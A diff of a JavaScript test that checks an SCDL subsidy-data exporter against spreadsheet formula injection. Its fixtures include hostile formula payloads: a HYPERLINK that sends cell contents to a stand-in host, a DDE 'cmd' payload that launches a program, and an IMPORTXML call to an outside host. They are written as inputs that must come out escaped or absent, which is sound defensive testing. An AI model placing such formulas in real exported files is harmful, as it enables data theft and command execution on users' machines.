@@ -46,7 +46,10 @@ describe('the SCDL file against formula injection', () => {
     // Whitespace is flattened on one line by the exporter (a tab or a line break never starts a name).
     expect(records.map((r) => r.nomBeneficiaire).sort()).toEqual(["'+1", "'-2", "'=1+2", "'=3", `'=HYPERLINK("http://x"&A2,"Voir")`, "'@SUM(A1:A9)"].sort());
     expect(records.map((r) => r.objet)).toContain("'=cmd|' /C calc'!A0");
-    for (const r of records) expect(r.dispositifAide).toBe(`'@IMPORTXML("http://x";"//a")`);
+    // The programme's name is no longer written in dispositifAide (an identifier of the national aid-scheme
+    // schema, issue 13), so its formula reaches no cell at all.
+    for (const r of records) expect(r.dispositifAide).toBe('');
+    expect(text).not.toContain('IMPORTXML');
 
     // No cell a spreadsheet would evaluate, anywhere in the file.
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
